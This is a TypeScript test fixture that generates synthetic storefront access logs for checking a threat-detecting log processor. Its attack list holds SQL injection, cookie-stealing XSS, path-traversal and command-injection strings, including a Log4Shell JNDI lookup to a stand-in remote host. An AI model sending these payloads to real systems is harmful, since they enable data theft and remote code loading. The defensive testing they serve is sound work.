/**
 * Synthetic web-access logs for the demo and the end-to-end tests: a storefront's everyday traffic from a few hundred
 * clients, a share of attacks of every kind the processor detects, brute-force bursts on `/login`, and some events
 * that are not valid at all. Deterministic for a given seed.
 *
 * @module
 */
import type { PutRecordsEntry } from 'serverless-done-right'
import type { ThreatKind } from './threats.js'

/** Options of {@link sampleTraffic}. */
export interface SampleTrafficOptions {
  /** How many events (valid and invalid). */
  readonly events: number
  /** Distinct client IPs of the everyday traffic. @defaultValue 300 */
  readonly clients?: number
  /** Share of events that carry an attack in the request. @defaultValue 0.05 */
  readonly attackShare?: number
  /** Share of events that are invalid (not JSON, not UTF-8, failing the schema). @defaultValue 0.01 */
  readonly invalidShare?: number
  /** Brute-force bursts: one IP sending this many failed logins in a row. @defaultValue 3 bursts of 25 */
  readonly bruteForce?: { readonly bursts: number; readonly attempts: number }
  /** Seed of the generator. @defaultValue 1 */
  readonly seed?: number
  /** The time of the first event. @defaultValue now */
  readonly start?: Date
}

/** The traffic, ready for `putRecords`, and what it holds. */
export interface SampleTraffic {
  /** One entry per event, partition key = client IP (or `invalid` when there is none to read). */
  readonly entries: PutRecordsEntry[]
  /** `requestId` of every valid event, in order. */
  readonly validRequestIds: string[]
  /** How many invalid events. */
  readonly invalid: number
  /** How many events carry each kind of request attack (brute force is counted per batch by the processor). */
  readonly attacks: Partial<Record<ThreatKind, number>>
  /** The brute-forcing IPs. */
  readonly bruteForceIps: string[]
}

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36',
]

/**
 * Everyday requests: [weight, method, target, status, action]; the action starts the message (the stream reducer's
 * default key). Failed logins and denied pages are rare, as on a real storefront: about 2% of requests.
 */
const everyday: ReadonlyArray<readonly [number, string, string, number, string]> = [
  [30, 'GET', '/', 200, 'page.view'],
  [25, 'GET', '/products/{n}', 200, 'product.view'],
  [3, 'GET', '/products/{n}', 404, 'product.missing'],
  [5, 'GET', '/search?q=select+a+plan', 200, 'search'],
  [5, 'GET', '/search?q=rock+%26+roll+t-shirt', 200, 'search'],
  [5, 'GET', "/search?q=O'Brien+union+jacket", 200, 'search'],
  [8, 'POST', '/cart/items', 201, 'cart.add'],
  [3, 'POST', '/checkout', 200, 'checkout.completed'],
  [4, 'POST', '/login', 200, 'login.succeeded'],
  [1, 'POST', '/login', 401, 'login.failed'],
  [8, 'GET', '/api/orders?limit=20&sort=-created', 200, 'api.call'],
  [15, 'GET', '/static/app.{n}.js', 304, 'static.asset'],
  [1, 'GET', '/account', 403, 'access.denied'],
  [1, 'GET', '/api/inventory', 500, 'server.error'],
]
const everydayWeight = everyday.reduce((sum, [weight]) => sum + weight, 0)

/** The row whose weight band `point` (0 to the total weight) falls in. */
function weighted<T extends readonly [number, ...unknown[]]>(rows: readonly T[], point: number): T {
  let left = point
  for (const row of rows) {
    left -= row[0]
    if (left < 0) return row
  }
  return rows[rows.length - 1] as T
}

/** Attacks as scanners and people send them: [kind, method, target, user agent or undefined for a browser's]. */
const attacks: ReadonlyArray<readonly [ThreatKind, string, string, string | undefined]> = [
  ['sql-injection', 'GET', "/products?id=1'+UNION+SELECT+username,password+FROM+users--", undefined],
  ['sql-injection', 'GET', '/login?user=admin%27%20OR%20%271%27%3D%271', undefined],
  ['sql-injection', 'GET', '/items?id=1%2520AND%2520SLEEP(5)', undefined],
  ['xss', 'GET', '/search?q=%3CsCrIpT%3Ealert(document.cookie)%3C%2Fscript%3E', undefined],
  ['xss', 'GET', '/search?q=<img+src=x+onerror=alert(1)>', undefined],
  ['path-traversal', 'GET', '/static/..%2F..%2F..%2Fetc%2Fpasswd', undefined],
  ['path-traversal', 'GET', '/download?file=..%252F..%252Fconfig%252Fdatabase.yml', undefined],
  ['command-injection', 'GET', '/tools/ping?host=127.0.0.1;cat+/etc/hostname', undefined],
  ['command-injection', 'GET', '/', `\${jndi:ldap://203.0.113.66:1389/Exploit}`],
  ['scanner', 'GET', '/admin', 'sqlmap/1.8.2#stable (https://sqlmap.org)'],
  ['scanner', 'GET', '/wp-login.php', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)'],
]

/** Events the processor must dead-letter: each a raw payload. */
const invalidPayloads: ReadonlyArray<(n: number) => Uint8Array | string> = [
  (n) => `192.0.2.${n % 250} - - [01/Mar/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 512`, // a raw access-log line
  () => new Uint8Array([0xff, 0xfe, 0x7b, 0x22, 0x80]), // not UTF-8
  (n) => JSON.stringify({ requestId: `invalid-${n}`, message: 'no ip, no status' }),
  (n) => JSON.stringify({ ...baseEvent(n), ip: 'not-an-ip' }),
  (n) => JSON.stringify({ ...baseEvent(n), status: 'OK' }),
  () => JSON.stringify(['an', 'array']),
]

function baseEvent(n: number) {
  return {
    requestId: `invalid-${n}`,
    timestamp: new Date(0).toISOString(),
    level: 'INFO',
    service: 'storefront',
    ip: '192.0.2.1',
    method: 'GET',
    path: '/',
    status: 200,
    userAgent: '',
    message: 'page.view',
  }
}

function seeded(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}

/** `count` client IPs from the documentation ranges, one in twenty IPv6. */
function clientIps(count: number): string[] {
  const ranges = ['198.51.100', '203.0.113', '192.0.2']
  return Array.from({ length: count }, (_, index) =>
    index % 20 === 19 ? `2001:db8::${(index + 1).toString(16)}` : `${ranges[index % 3]}.${1 + Math.floor(index / 3)}`,
  )
}

/**
 * Builds `options.events` log events in the order a load balancer would log them. Brute-force bursts come in one run
 * each (one attacker hammering `/login`), so the processor sees them in one batch.
 */
export function sampleTraffic(options: SampleTrafficOptions): SampleTraffic {
  const random = seeded(options.seed ?? 1)
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T
  const ips = clientIps(options.clients ?? 300)
  const attackShare = options.attackShare ?? 0.05
  const invalidShare = options.invalidShare ?? 0.01
  const bursts = options.bruteForce ?? { bursts: 3, attempts: 25 }
  const start = (options.start ?? new Date()).getTime()
  const bruteForceIps = Array.from({ length: bursts.bursts }, (_, index) => `203.0.113.${200 + index}`)
  const burstAt = new Map(
    bruteForceIps.map((ip, index) => [Math.floor(((index + 1) * options.events) / (bursts.bursts + 1)), ip]),
  )
  const entries: PutRecordsEntry[] = []
  const validRequestIds: string[] = []
  const attackCounts: Partial<Record<ThreatKind, number>> = {}
  let invalid = 0

  let sequence = 0
  const push = (method: string, ip: string, path: string, status: number, userAgent: string, action: string) => {
    sequence += 1
    const requestId = `req-${sequence.toString().padStart(7, '0')}`
    const event = {
      requestId,
      timestamp: new Date(start + sequence * 3).toISOString(),
      level: status >= 500 ? 'ERROR' : status >= 400 ? 'WARN' : 'INFO',
      service: 'storefront',
      ip,
      method,
      path,
      status,
      userAgent,
      message: `${action} ${method} ${path.split('?')[0]} ${status}`,
      latencyMs: Math.round(5 + random() * 120),
    }
    entries.push({ partitionKey: ip, data: JSON.stringify(event) })
    validRequestIds.push(requestId)
  }

  for (let n = 0; entries.length < options.events; n++) {
    const burstIp = burstAt.get(n)
    if (burstIp !== undefined) {
      const userAgent = pick(browsers) // credential stuffing looks like a browser: only the count gives it away
      for (let attempt = 0; attempt < bursts.attempts && entries.length < options.events; attempt++) {
        push('POST', burstIp, '/login', 401, userAgent, 'login.failed')
      }
      continue
    }
    const draw = random()
    if (draw < invalidShare) {
      invalid += 1
      entries.push({ partitionKey: 'invalid', data: pick(invalidPayloads)(n) })
    } else if (draw < invalidShare + attackShare) {
      const [kind, method, path, userAgent] = pick(attacks)
      attackCounts[kind] = (attackCounts[kind] ?? 0) + 1
      push(method, pick(ips), path, pick([400, 403, 404]), userAgent ?? pick(browsers), 'blocked')
    } else {
      const [, method, template, status, action] = weighted(everyday, random() * everydayWeight)
      const path = template.replace('{n}', String(1 + Math.floor(random() * 500)))
      push(method, pick(ips), path, status, pick(browsers), action)
    }
  }
  return { entries, validRequestIds, invalid, attacks: attackCounts, bruteForceIps }
}
